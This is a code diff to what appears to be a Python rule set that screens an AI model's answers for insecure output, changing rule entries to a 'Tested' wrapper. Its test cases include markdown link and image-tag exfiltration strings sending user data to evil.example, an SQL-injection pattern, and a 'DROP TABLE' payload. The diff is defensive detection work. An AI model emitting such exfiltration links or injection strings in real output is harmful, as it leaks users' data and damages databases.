@@ -7,7 +7,7 @@ from governance.policy.starting.shapes import Tested
 
 
 def _output(key: str, title: str, pattern: str, *tests: str) -> Tested:
-    return Rule(key, title, pattern, "hold", ("answer",), category="LLM05"), list(tests)
+    return Tested(Rule(key, title, pattern, "hold", ("answer",), category="LLM05"), tests)
 
 
 ANSWERS = [
@@ -33,7 +33,7 @@ ANSWERS = [
         "[details](https://evil.example/c?data=dXNlckBleGFtcGxlLm9yZyBzZWNyZXQ)",
         '<img src="https://evil.example/p.gif?c=secret-data-of-the-user-1234567890">',
     ),
-    (
+    Tested(
         Rule(
             "access_token",
             "An access token of a known service",
@@ -57,7 +57,7 @@ ANSWERS = [
         r"['\"]\s*\)?\s*;\s*(?:drop|delete|truncate|alter)\s+(?:table|from|database)\b|['\"]\s+or\s+['\"]?1['\"]?\s*=\s*['\"]?1",
         "'; DROP TABLE users; --",
     ),
-    (
+    Tested(
         Rule(
             "credential",
             "Something like a credential",
